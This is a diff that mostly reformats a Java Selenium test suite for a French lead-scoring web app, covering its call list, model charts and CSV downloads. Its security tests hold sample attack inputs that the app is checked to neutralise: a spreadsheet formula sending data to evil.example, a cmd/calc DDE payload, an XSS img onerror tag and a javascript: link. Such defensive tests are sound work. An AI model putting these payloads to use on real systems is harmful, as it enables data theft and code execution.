-        assertThat(browser.findElement(By.cssSelector("label[for=total_contacts]")).getText()).isEqualTo("Number of contacts");
+        assertThat(browser.findElement(By.cssSelector("label[for=total_contacts]"))
+                        .getText())
+                .isEqualTo("Number of contacts");
         assertThat(browser.findElement(By.tagName("html")).getAttribute("lang")).isEqualTo("en");
         waiting().until(driver -> byId("recommendation").getText().contains("priority"));
         assertThat(byId("next-action").getText()).doesNotContain("Appeler", "Envoyer", "Inscrire");
@@ -500,18 +635,25 @@ class WebPageTests {
     @Test
     void shouldDrawTheModelForPeopleWhoDoNotReadJson() throws Exception {
         browser.findElement(By.cssSelector("[data-tab=model]")).click();
-        waiting().until(driver -> byId("importance").findElements(By.className("bar-row")).size() == 7);
+        waiting()
+                .until(driver ->
+                        byId("importance").findElements(By.className("bar-row")).size() == 7);
         assertThat(byId("distribution").findElements(By.tagName("div"))).hasSize(10);
         assertThat(byId("metrics").findElements(By.tagName("tr"))).hasSize(7);
         assertThat(byId("metrics").getText()).contains("AUC", "Chances de classer un client qui signe");
-        assertThat(byId("importance").getText()).contains("Taux d'ouverture des emails").doesNotContain("email_open_rate");
+        assertThat(byId("importance").getText())
+                .contains("Taux d'ouverture des emails")
+                .doesNotContain("email_open_rate");
 
         // In words first: when, on what, and what a score of 80 means, from the API's own numbers.
         JsonNode model = json.readTree(get("/api/stats")).get("model");
         String summary = byId("model-summary").getText().replace('\u202f', ' ').replace('\u00a0', ' ');
         NumberFormat french = NumberFormat.getIntegerInstance(Locale.FRANCE);
-        assertThat(summary).contains(("sur " + french.format(model.get("training_rows").asInt()) + " clients, dont "
-                        + french.format(model.get("training_converted").asInt()) + " ont signé").replace('\u202f', ' ').replace('\u00a0', ' '))
+        assertThat(summary)
+                .contains(("sur " + french.format(model.get("training_rows").asInt()) + " clients, dont "
+                                + french.format(model.get("training_converted").asInt()) + " ont signé")
+                        .replace('\u202f', ' ')
+                        .replace('\u00a0', ' '))
                 .containsPattern("Sur 100 clients notés autour de \\d+, environ \\d+ ont signé");
         JsonNode band80 = null;
         for (JsonNode band : model.get("reliability")) {
@@ -519,27 +661,44 @@ class WebPageTests {
                 band80 = band;
             }
         }
-        assertThat(summary).contains("environ " + Math.round(band80.get("observed_rate").asDouble()) + " ont signé");
-        // The shipped model was trained on sample data: said in words, not as the card's "sample data (seed 42, 20000 customers)".
+        assertThat(summary)
+                .contains("environ " + Math.round(band80.get("observed_rate").asDouble()) + " ont signé");
+        // The shipped model was trained on sample data: said in words, not as the card's "sample data (seed 42, 20000
+        // customers)".
         assertThat(model.get("data_source").asString()).startsWith("sample data (seed ");
-        assertThat(summary).contains("(données d'exemple inventées pour la démonstration, tirage n° " + model.get("data_source").asString()
-                .replaceAll("\\D*(\\d+).*", "$1") + ").").doesNotContain("sample data", "seed");
+        assertThat(summary)
+                .contains("(données d'exemple inventées pour la démonstration, tirage n° "
+                        + model.get("data_source").asString().replaceAll("\\D*(\\d+).*", "$1") + ").")
+                .doesNotContain("sample data", "seed");
 
         // The reliability chart: one dot per band of the holdout, placed from the API's numbers.
-        waiting().until(driver -> !byId("reliability").findElements(By.cssSelector("circle.band")).isEmpty());
+        waiting()
+                .until(driver -> !byId("reliability")
+                        .findElements(By.cssSelector("circle.band"))
+                        .isEmpty());
         List<WebElement> dots = byId("reliability").findElements(By.cssSelector("circle.band"));
         assertThat(dots).hasSize(model.get("reliability").size());
         for (int i = 0; i < dots.size(); i++) {
             JsonNode band = model.get("reliability").get(i);
-            assertThat(Double.parseDouble(dots.get(i).getAttribute("data-mean"))).isEqualTo(band.get("mean_score").asDouble());
-            assertThat(Double.parseDouble(dots.get(i).getAttribute("data-observed"))).isEqualTo(band.get("observed_rate").asDouble());
+            assertThat(Double.parseDouble(dots.get(i).getAttribute("data-mean")))
+                    .isEqualTo(band.get("mean_score").asDouble());
+            assertThat(Double.parseDouble(dots.get(i).getAttribute("data-observed")))
+                    .isEqualTo(band.get("observed_rate").asDouble());
         }
 
         // The versions of the store, the serving one marked.
-        waiting().until(driver -> byId("versions").findElements(By.cssSelector("tr.serving")).size() == 1);
-        String auc = String.format(Locale.FRANCE, "%.3f", model.get("holdout").get("auc").asDouble());
-        assertThat(byId("versions").findElement(By.cssSelector("tr.serving")).getText()).contains("★ en service", auc);
-        assertThat(byId("versions").findElement(By.cssSelector("tr.serving")).getText()).contains("données d'exemple").doesNotContain("sample data");
+        waiting()
+                .until(driver -> byId("versions")
+                                .findElements(By.cssSelector("tr.serving"))
+                                .size()
+                        == 1);
+        String auc = String.format(
+                Locale.FRANCE, "%.3f", model.get("holdout").get("auc").asDouble());
+        assertThat(byId("versions").findElement(By.cssSelector("tr.serving")).getText())
+                .contains("★ en service", auc);
+        assertThat(byId("versions").findElement(By.cssSelector("tr.serving")).getText())
+                .contains("données d'exemple")
+                .doesNotContain("sample data");
         ((JavascriptExecutor) browser).executeScript("window.scrollTo(0, 0)");
         screenshot("the-model");
         ((JavascriptExecutor) browser).executeScript("arguments[0].scrollIntoView()", byId("reliability"));
@@ -552,27 +711,52 @@ class WebPageTests {
         browser.findElement(By.cssSelector("[data-tab=base]")).click();
         byId("csv-file").sendKeys(FRENCH_EXPORT.toAbsolutePath().toString());
         byId("batch-button").click();
-        waiting().until(driver -> byId("call-list").findElements(By.cssSelector("tbody tr")).size() == 5);
+        waiting()
+                .until(driver -> byId("call-list")
+                                .findElements(By.cssSelector("tbody tr"))
+                                .size()
+                        == 5);
 
-        List<String> header = byId("call-list").findElements(By.cssSelector("thead th")).stream().map(WebElement::getText).toList();
-        assertThat(header).containsExactly("#", "Nom", "Société", "Téléphone", "Email", "N° client", "Score", "Segment", "Prochaine action");
+        List<String> header = byId("call-list").findElements(By.cssSelector("thead th")).stream()
+                .map(WebElement::getText)
+                .toList();
+        assertThat(header)
+                .containsExactly(
+                        "#",
+                        "Nom",
+                        "Société",
+                        "Téléphone",
+                        "Email",
+                        "N° client",
+                        "Score",
+                        "Segment",
+                        "Prochaine action");
         List<WebElement> rows = byId("call-list").findElements(By.cssSelector("tbody tr"));
-        assertThat(rows.stream().map(row -> Integer.parseInt(cell(row, "score").getText())).toList()).isSortedAccordingTo((a, b) -> b - a);
+        assertThat(rows.stream()
+                        .map(row -> Integer.parseInt(cell(row, "score").getText()))
+                        .toList())
+                .isSortedAccordingTo((a, b) -> b - a);
         WebElement first = rows.getFirst();
         assertThat(cell(first, "name").getText()).isEqualTo("Élise Crémieux");
         assertThat(cell(first, "company").getText()).isEqualTo("Crémerie du Marché");
-        assertThat(cell(first, "phone").findElement(By.tagName("a")).getAttribute("href")).isEqualTo("tel:0123456789");
-        assertThat(cell(first, "email").findElement(By.tagName("a")).getAttribute("href")).isEqualTo("mailto:elise@cremerie.fr");
+        assertThat(cell(first, "phone").findElement(By.tagName("a")).getAttribute("href"))
+                .isEqualTo("tel:0123456789");
+        assertThat(cell(first, "email").findElement(By.tagName("a")).getAttribute("href"))
+                .isEqualTo("mailto:elise@cremerie.fr");
         assertThat(cell(first, "segment").getText()).isEqualTo("Chaud");
         assertThat(cell(first, "next_action").getText()).isEqualTo("Appeler");
 
         // Ids as written: 2^53 + 1 is not rounded onto its neighbour, text ids stay text.
-        List<String> ids = rows.stream().map(row -> cell(row, "customer_id").getText()).toList();
-        assertThat(ids).containsExactlyInAnyOrder("9007199254740993", "9007199254740992", "CUST-007", "00Q5e00000AbCdE", "1042");
+        List<String> ids =
+                rows.stream().map(row -> cell(row, "customer_id").getText()).toList();
+        assertThat(ids)
+                .containsExactlyInAnyOrder(
+                        "9007199254740993", "9007199254740992", "CUST-007", "00Q5e00000AbCdE", "1042");
         assertThat(cell(first, "customer_id").getText()).isEqualTo("9007199254740993");
 
         type("row-search", "boulangerie");
-        assertThat(byId("call-list").findElements(By.cssSelector("tbody tr"))).singleElement()
+        assertThat(byId("call-list").findElements(By.cssSelector("tbody tr")))
+                .singleElement()
                 .satisfies(row -> assertThat(cell(row, "customer_id").getText()).isEqualTo("CUST-007"));
         type("row-search", "");
         assertThat(consoleErrors()).isEmpty();
@@ -584,27 +768,43 @@ class WebPageTests {
         browser.findElement(By.cssSelector("[data-tab=base]")).click();
         byId("csv-file").sendKeys(FRENCH_EXPORT.toAbsolutePath().toString());
         byId("batch-button").click();
-        waiting().until(driver -> byId("call-list").findElements(By.cssSelector("tbody tr")).size() == 5);
+        waiting()
+                .until(driver -> byId("call-list")
+                                .findElements(By.cssSelector("tbody tr"))
+                                .size()
+                        == 5);
 
         String french = download();
         assertThat(french).startsWith("\uFEFF");
         List<String> lines = french.substring(1).lines().toList();
-        assertThat(lines.getFirst()).isEqualTo("Nom;Société;Téléphone;E-mail;customer_id;days_since_last_contact;total_contacts;"
-                + "total_spent;emails_sent;emails_opened;website_visits;customer_age_days;score;segment;probability;priority;"
-                + "next_action;recommendation");
+        assertThat(lines.getFirst())
+                .isEqualTo("Nom;Société;Téléphone;E-mail;customer_id;days_since_last_contact;total_contacts;"
+                        + "total_spent;emails_sent;emails_opened;website_visits;customer_age_days;score;segment;probability;priority;"
+                        + "next_action;recommendation");
         assertThat(lines).hasSize(6);
-        assertThat(lines.get(1)).startsWith("Élise Crémieux;Crémerie du Marché;01 23 45 67 89;elise@cremerie.fr;9007199254740993;2;25;4 000,00;")
+        assertThat(lines.get(1))
+                .startsWith(
+                        "Élise Crémieux;Crémerie du Marché;01 23 45 67 89;elise@cremerie.fr;9007199254740993;2;25;4 000,00;")
                 .containsPattern(";Chaud;0,\\d+;HAUTE;Appeler;🔥");
         screenshot("download-french");
 
         byId("language").click();
-        waiting().until(driver -> byId("call-list").findElements(By.cssSelector("thead th")).get(1).getText().equals("Name"));
+        waiting()
+                .until(driver -> byId("call-list")
+                        .findElements(By.cssSelector("thead th"))
+                        .get(1)
+                        .getText()
+                        .equals("Name"));
         waiting().until(driver -> download().contains("HIGH priority"));
         String english = download();
         assertThat(english).doesNotStartWith("\uFEFF");
         List<String> englishLines = english.lines().toList();
-        assertThat(englishLines.getFirst()).startsWith("Nom,Société,Téléphone,E-mail,customer_id,").endsWith(",score,segment,probability,priority,next_action,recommendation");
-        assertThat(englishLines.get(1)).startsWith("Élise Crémieux,Crémerie du Marché,01 23 45 67 89,elise@cremerie.fr,9007199254740993,2,25,\"4 000,00\",")
+        assertThat(englishLines.getFirst())
+                .startsWith("Nom,Société,Téléphone,E-mail,customer_id,")
+                .endsWith(",score,segment,probability,priority,next_action,recommendation");
+        assertThat(englishLines.get(1))
+                .startsWith(
+                        "Élise Crémieux,Crémerie du Marché,01 23 45 67 89,elise@cremerie.fr,9007199254740993,2,25,\"4 000,00\",")
                 .containsPattern(",Hot,0\\.\\d+,HIGH,Call,🔥");
         screenshot("download-english");
     }
@@ -619,27 +819,37 @@ class WebPageTests {
                 "301", scorer.score(new Customer(301, 300, 1, 0, 40, 0, 0, 900)),
                 "302", scorer.score(new Customer(302, 2, 25, 4000, 30, 27, 60, 700)));
         assertThat(model.get("301").score()).isLessThan(model.get("302").score());
-        assertThat(rows.stream().map(row -> cell(row, "customer_id").getText()).toList()).containsExactly("302", "301");
+        assertThat(rows.stream().map(row -> cell(row, "customer_id").getText()).toList())
+                .containsExactly("302", "301");
         for (WebElement row : rows) {
             var expected = model.get(cell(row, "customer_id").getText());
             assertThat(cell(row, "score").getText()).isEqualTo(String.valueOf(expected.score()));
-            assertThat(cell(row, "segment").getText()).isEqualTo(FRENCH_SEGMENTS.get(expected.segment().label()));
-            assertThat(cell(row, "next_action").getText()).isEqualTo(FRENCH_ACTIONS.get(expected.nextAction().action()));
+            assertThat(cell(row, "segment").getText())
+                    .isEqualTo(FRENCH_SEGMENTS.get(expected.segment().label()));
+            assertThat(cell(row, "next_action").getText())
+                    .isEqualTo(FRENCH_ACTIONS.get(expected.nextAction().action()));
         }
         assertThat(byId("batch-result").getText()).doesNotContain("function", "native code", "[object");
-        assertThat(byId("counts").getText()).contains("Chaud : " + model.values().stream().filter(s -> s.segment().label().equals("Hot")).count());
-        assertThat(byId("batch-note").getText()).contains("score (fichier)", "Priority (fichier)", "next_action (fichier)");
+        assertThat(byId("counts").getText())
+                .contains("Chaud : "
+                        + model.values().stream()
+                                .filter(s -> s.segment().label().equals("Hot"))
+                                .count());
+        assertThat(byId("batch-note").getText())
+                .contains("score (fichier)", "Priority (fichier)", "next_action (fichier)");
         screenshot("call-list-own-scores");
 
         // The download keeps the file's own columns, renamed, and the service's under their names; __proto__ and the
         // other names of Object's are the file's columns like any other.
         List<String> lines = download().substring(1).lines().toList();
-        assertThat(lines.getFirst()).isEqualTo("Nom;Téléphone;customer_id;days_since_last_contact;total_contacts;total_spent;emails_sent;"
-                + "emails_opened;website_visits;customer_age_days;score (fichier);segment (fichier);probability (fichier);Priority (fichier);"
-                + "next_action (fichier);recommendation (fichier);__proto__;constructor;hasOwnProperty;toString;"
-                + "score;segment;probability;priority;next_action;recommendation");
+        assertThat(lines.getFirst())
+                .isEqualTo("Nom;Téléphone;customer_id;days_since_last_contact;total_contacts;total_spent;emails_sent;"
+                        + "emails_opened;website_visits;customer_age_days;score (fichier);segment (fichier);probability (fichier);Priority (fichier);"
+                        + "next_action (fichier);recommendation (fichier);__proto__;constructor;hasOwnProperty;toString;"
+                        + "score;segment;probability;priority;next_action;recommendation");
         var first = model.get("302");
-        assertThat(lines.get(1)).startsWith("Client à appeler;06 12 34 56 78;302;2;25;4 000,00;30;27;60;700;2;Cold;0,01;LOW;toString;"
+        assertThat(lines.get(1))
+                .startsWith("Client à appeler;06 12 34 56 78;302;2;25;4 000,00;30;27;60;700;2;Cold;0,01;LOW;toString;"
                         + "Laisser tomber;proto-302;constructor-302;own-302;text-302;" + first.score() + ";"
                         + FRENCH_SEGMENTS.get(first.segment().label()) + ";0,")
                 .contains(";" + FRENCH_ACTIONS.get(first.nextAction().action()) + ";");
@@ -647,16 +857,21 @@ class WebPageTests {
         byId("language").click();
         waiting().until(driver -> byId("batch-note").getText().contains("score (file)"));
         assertThat(byId("batch-note").getText()).doesNotContain("fichier");
-        assertThat(download().lines().findFirst().orElseThrow()).contains(",score (file),segment (file),").endsWith(
-                ",score,segment,probability,priority,next_action,recommendation");
+        assertThat(download().lines().findFirst().orElseThrow())
+                .contains(",score (file),segment (file),")
+                .endsWith(",score,segment,probability,priority,next_action,recommendation");
         assertThat(consoleErrors()).isEmpty();
     }
 
     @Test
     void shouldNeutraliseFormulaCellsInTheDownloadWhileNumbersStayNumbers() throws Exception {
         rank(HOSTILE_CELLS, 3);
-        List<CSVRecord> csv = CSVFormat.DEFAULT.builder().setDelimiter(';').get()
-                .parse(new StringReader(download().substring(1))).getRecords();
+        List<CSVRecord> csv = CSVFormat.DEFAULT
+                .builder()
+                .setDelimiter(';')
+                .get()
+                .parse(new StringReader(download().substring(1)))
+                .getRecords();
         List<String> header = csv.getFirst().toList();
         assertThat(header.subList(12, 16)).containsExactly("Solde", "Écart", "Note", "'@Note");
         Map<String, List<String>> byId = new HashMap<>();
@@ -664,8 +879,12 @@ class WebPageTests {
 
         // OWASP: a cell starting with = + - @ tab or carriage return gets a quote in front, the id included...
         List<String> formulas = byId.get("'=1+1");
-        assertThat(formulas.subList(0, 4)).containsExactly("'=HYPERLINK(\"http://evil.example/?d=\"&A3;\"Voir la fiche\")",
-                "'@SUM(1+1)*cmd|' /C calc'!A0", "'+33 4 11 22 33 44", "lea@exemple.fr");
+        assertThat(formulas.subList(0, 4))
+                .containsExactly(
+                        "'=HYPERLINK(\"http://evil.example/?d=\"&A3;\"Voir la fiche\")",
+                        "'@SUM(1+1)*cmd|' /C calc'!A0",
+                        "'+33 4 11 22 33 44",
+                        "lea@exemple.fr");
         assertThat(formulas.subList(14, 16)).containsExactly("'-2+3", "'\t=1+1");
         assertThat(byId.get("A-1234").subList(14, 16)).containsExactly("'\r@SUM(1)", "'-");
         // ...while a plain number stays a number, negative or with a decimal comma, and so do the service's figures.
@@ -674,8 +893,12 @@ class WebPageTests {
         assertThat(formulas.get(7)).isEqualTo("4 000,00");
         assertThat(formulas.get(header.indexOf("probability"))).matches("0,\\d+");
         for (var row : csv) {
-            assertThat(row.toList()).allSatisfy(value -> assertThat(value.isEmpty() || "=+-@\t\r".indexOf(value.charAt(0)) < 0
-                    || NUMBER.matcher(value).matches()).as(value).isTrue());
+            assertThat(row.toList())
+                    .allSatisfy(value -> assertThat(value.isEmpty()
+                                    || "=+-@\t\r".indexOf(value.charAt(0)) < 0
+                                    || NUMBER.matcher(value).matches())
+                            .as(value)
+                            .isTrue());
         }
         screenshot("download-formulas");
     }
@@ -694,62 +917,91 @@ class WebPageTests {
         assertThat(cell(html, "phone").getText()).isEqualTo("javascript:alert(1)[U+202E]");
         assertThat(cell(html, "name").getText()).isEqualTo("<img src=x onerror=\"document.title='pwned'\">");
         assertThat(cell(html, "company").getText()).isEqualTo("Café <b>des Arts</b>");
-        assertThat(byId("call-list").findElements(By.cssSelector("tbody img, tbody b"))).isEmpty();
+        assertThat(byId("call-list").findElements(By.cssSelector("tbody img, tbody b")))
+                .isEmpty();
         assertThat(browser.getTitle()).isEqualTo(title);
 
         // Links are tel: and mailto: to a phone number and an address, nothing else.
         assertThat(cell(html, "phone").findElements(By.tagName("a"))).isEmpty();
-        assertThat(cell(html, "email").findElements(By.tagName("a"))).as("an address with ?bcc= added").isEmpty();
+        assertThat(cell(html, "email").findElements(By.tagName("a")))
+                .as("an address with ?bcc= added")
+                .isEmpty();
         assertThat(cell(html, "email").getText()).isEqualTo("boss@corp.fr?bcc=spy@evil.example");
         WebElement formulas = byId.get("=1+1");
-        assertThat(cell(formulas, "phone").findElement(By.tagName("a")).getAttribute("href")).isEqualTo("tel:+33411223344");
-        assertThat(cell(formulas, "email").findElement(By.tagName("a")).getAttribute("href")).isEqualTo("mailto:lea@exemple.fr");
-        assertThat(byId("call-list").findElements(By.cssSelector("tbody a"))).allSatisfy(link ->
-                assertThat(link.getAttribute("href")).matches("tel:\\+?\\d+|mailto:[^?&:/]+@[^?&:/]+"));
+        assertThat(cell(formulas, "phone").findElement(By.tagName("a")).getAttribute("href"))
+                .isEqualTo("tel:+33411223344");
+        assertThat(cell(formulas, "email").findElement(By.tagName("a")).getAttribute("href"))
+                .isEqualTo("mailto:lea@exemple.fr");
+        assertThat(byId("call-list").findElements(By.cssSelector("tbody a")))
+                .allSatisfy(
+                        link -> assertThat(link.getAttribute("href")).matches("tel:\\+?\\d+|mailto:[^?&:/]+@[^?&:/]+"));
 
-        // Cells of 5 000 characters are cut on screen (whole in the search and the download), so the list stays readable.
+        // Cells of 5 000 characters are cut on screen (whole in the search and the download), so the list stays
+        // readable.
         WebElement longCells = byId.get("CUST-3");
-        assertThat(cell(longCells, "name").getText()).startsWith("Très long xxx").endsWith("…").hasSizeLessThanOrEqualTo(101);
+        assertThat(cell(longCells, "name").getText())
+                .startsWith("Très long xxx")
+                .endsWith("…")
+                .hasSizeLessThanOrEqualTo(101);
         assertThat(cell(longCells, "name").getAttribute("title")).startsWith("Très long xxx");
         assertThat(cell(longCells, "email").findElements(By.tagName("a"))).isEmpty();
         JavascriptExecutor page = (JavascriptExecutor) browser;
         assertThat((Long) page.executeScript("const box = document.querySelector('#batch-result .table-wrap');"
-                + "return box.scrollWidth - box.clientWidth;")).isLessThanOrEqualTo(0);
+                        + "return box.scrollWidth - box.clientWidth;"))
+                .isLessThanOrEqualTo(0);
         assertThat(byId("call-list").getText()).doesNotContain("\u202e");
         assertThat(consoleErrors()).isEmpty();
         screenshot("call-list-hostile-cells");
         type("row-search", "yyyyyyyy");
-        assertThat(byId("call-list").findElements(By.cssSelector("tbody tr"))).singleElement()
+        assertThat(byId("call-list").findElements(By.cssSelector("tbody tr")))
+                .singleElement()
                 .satisfies(row -> assertThat(cell(row, "customer_id").getText()).isEqualTo("CUST-3"));
     }
 
     @Test
     void shouldDrawTheFirstThousandCustomersOfABigBaseAndSearchAndDownloadThemAll() throws Exception {
-        // 1 200 customers, 1 000 columns of their own (the last one holding their number): the list draws 1 000 rows, so
+        // 1 200 customers, 1 000 columns of their own (the last one holding their number): the list draws 1 000 rows,
+        // so
         // typing in the search stays quick.
-        StringBuilder file = new StringBuilder("customer_id;days_since_last_contact;total_contacts;total_spent;emails_sent;"
-                + "emails_opened;website_visits;customer_age_days");
+        StringBuilder file =
+                new StringBuilder("customer_id;days_since_last_contact;total_contacts;total_spent;emails_sent;"
+                        + "emails_opened;website_visits;customer_age_days");
         for (int column = 0; column < 1000; column++) {
             file.append(";colonne ").append(column);
         }
         for (int customer = 1; customer <= 1200; customer++) {
-            file.append("\r\n").append(String.format("C-%04d;", customer)).append(customer % 300).append(";5;").append(customer).append(";20;10;5;400")
-                    .append(";".repeat(1000)).append(customer);
+            file.append("\r\n")
+                    .append(String.format("C-%04d;", customer))
+                    .append(customer % 300)
+                    .append(";5;")
+                    .append(customer)
+                    .append(";20;10;5;400")
+                    .append(";".repeat(1000))
+                    .append(customer);
         }
         Path big = Files.writeString(Path.of("target", "big-base.csv"), file);
         rank(big, 1000);
         assertThat(byId("list-note").getText().replace('\u202f', ' ').replace('\u00a0', ' '))
-                .isEqualTo("Les 1 000 premiers clients sur 1 200 sont affichés ; la recherche, le segment et le téléchargement portent sur tous.");
+                .isEqualTo(
+                        "Les 1 000 premiers clients sur 1 200 sont affichés ; la recherche, le segment et le téléchargement portent sur tous.");
         List<String> lines = download().substring(1).lines().toList();
         assertThat(lines).hasSize(1201);
         assertThat(lines.getFirst().split(";", -1)).hasSize(1014);
         String[] lastLine = lines.getLast().split(";", -1);
         String last = lastLine[0];
         assertThat(lastLine[1007]).isEqualTo(String.valueOf(Integer.parseInt(last.substring(2))));
-        assertThat(lastLine[1008]).as("the service's score, after the file's columns").matches("\\d+");
+        assertThat(lastLine[1008])
+                .as("the service's score, after the file's columns")
+                .matches("\\d+");
         type("row-search", last);
-        waiting().until(driver -> byId("call-list").findElements(By.cssSelector("tbody tr")).size() == 1);
-        assertThat(cell(byId("call-list").findElement(By.cssSelector("tbody tr")), "customer_id").getText()).isEqualTo(last);
+        waiting()
+                .until(driver -> byId("call-list")
+                                .findElements(By.cssSelector("tbody tr"))
+                                .size()
+                        == 1);
+        assertThat(cell(byId("call-list").findElement(By.cssSelector("tbody tr")), "customer_id")
+                        .getText())
+                .isEqualTo(last);
         assertThat(byId("list-note").isDisplayed()).isFalse();
     }
 
@@ -758,7 +1010,11 @@ class WebPageTests {
         browser.findElement(By.cssSelector("[data-tab=base]")).click();
         byId("csv-file").sendKeys(file.toAbsolutePath().toString());
         byId("batch-button").click();
-        waiting().until(driver -> byId("call-list").findElements(By.cssSelector("tbody tr")).size() == customers);
+        waiting()
+                .until(driver -> byId("call-list")
+                                .findElements(By.cssSelector("tbody tr"))
+                                .size()
+                        == customers);
         return byId("call-list").findElements(By.cssSelector("tbody tr"));
     }
 
@@ -771,19 +1027,23 @@ class WebPageTests {
     private String download(String button) {
         JavascriptExecutor page = (JavascriptExecutor) browser;
         // The blob is kept and the link not followed: the test reads what the user's browser would save.
-        page.executeScript("window.__downloads = []; URL.createObjectURL = (blob) => { window.__downloads.push(blob); return 'about:blank'; };"
-                + "HTMLAnchorElement.prototype.click = function () { };");
+        page.executeScript(
+                "window.__downloads = []; URL.createObjectURL = (blob) => { window.__downloads.push(blob); return 'about:blank'; };"
+                        + "HTMLAnchorElement.prototype.click = function () { };");
         byId(button).click();
-        return (String) page.executeAsyncScript("const done = arguments[arguments.length - 1];"
-                + "window.__downloads[0].arrayBuffer().then((b) => done(new TextDecoder('utf-8', {ignoreBOM: true}).decode(b)));");
+        return (String)
+                page.executeAsyncScript(
+                        "const done = arguments[arguments.length - 1];"
+                                + "window.__downloads[0].arrayBuffer().then((b) => done(new TextDecoder('utf-8', {ignoreBOM: true}).decode(b)));");
     }
 
     /** From now on, keeps the body of each score the page asks the service for (window.__scores). */
     private void recordRequests() {
-        ((JavascriptExecutor) browser).executeScript("window.__scores = [];"
-                + "if (!window.__send) { window.__send = window.fetch; window.fetch = (url, options) => {"
-                + "  if (String(url).startsWith('/api/score')) window.__scores.push(options.body);"
-                + "  return window.__send(url, options); }; }");
+        ((JavascriptExecutor) browser)
+                .executeScript("window.__scores = [];"
+                        + "if (!window.__send) { window.__send = window.fetch; window.fetch = (url, options) => {"
+                        + "  if (String(url).startsWith('/api/score')) window.__scores.push(options.body);"
+                        + "  return window.__send(url, options); }; }");
     }
 
     @SuppressWarnings("unchecked")
@@ -794,7 +1054,9 @@ class WebPageTests {
     /** Customers scored since the service started, as /api/stats counts them. */
     private long customersScored() throws Exception {
         JsonNode perSegment = json.readTree(get("/api/stats")).get("service").get("per_segment");
-        return perSegment.get("Hot").asLong() + perSegment.get("Warm").asLong() + perSegment.get("Cold").asLong();
+        return perSegment.get("Hot").asLong()
+                + perSegment.get("Warm").asLong()
+                + perSegment.get("Cold").asLong();
     }
 
     private static WebElement cell(WebElement row, String column) {
@@ -810,19 +1072,29 @@ class WebPageTests {
         browser.manage().window().setSize(new Dimension(390, 844));
         browser.get("http://localhost:" + port + "/");
         JavascriptExecutor page = (JavascriptExecutor) browser;
-        assertThat((Long) page.executeScript("return document.documentElement.scrollWidth - window.innerWidth;")).isLessThanOrEqualTo(0);
+        assertThat((Long) page.executeScript("return document.documentElement.scrollWidth - window.innerWidth;"))
+                .isLessThanOrEqualTo(0);
         screenshot("phone");
 
         browser.findElement(By.cssSelector("[data-tab=base]")).click();
         byId("csv-file").sendKeys(FRENCH_EXPORT.toAbsolutePath().toString());
         byId("batch-button").click();
-        waiting().until(driver -> byId("call-list").findElements(By.cssSelector("tbody tr")).size() == 5);
-        assertThat((Long) page.executeScript("return document.documentElement.scrollWidth - window.innerWidth;")).isLessThanOrEqualTo(0);
+        waiting()
+                .until(driver -> byId("call-list")
+                                .findElements(By.cssSelector("tbody tr"))
+                                .size()
+                        == 5);
+        assertThat((Long) page.executeScript("return document.documentElement.scrollWidth - window.innerWidth;"))
+                .isLessThanOrEqualTo(0);
         page.executeScript("arguments[0].scrollIntoView()", byId("counts"));
         screenshot("phone-call-list");
         browser.findElement(By.cssSelector("[data-tab=model]")).click();
-        waiting().until(driver -> !byId("reliability").findElements(By.cssSelector("circle.band")).isEmpty());
-        assertThat((Long) page.executeScript("return document.documentElement.scrollWidth - window.innerWidth;")).isLessThanOrEqualTo(0);
+        waiting()
+                .until(driver -> !byId("reliability")
+                        .findElements(By.cssSelector("circle.band"))
+                        .isEmpty());
+        assertThat((Long) page.executeScript("return document.documentElement.scrollWidth - window.innerWidth;"))
+                .isLessThanOrEqualTo(0);
         page.executeScript("arguments[0].scrollIntoView()", byId("reliability"));
         screenshot("phone-model");
     }
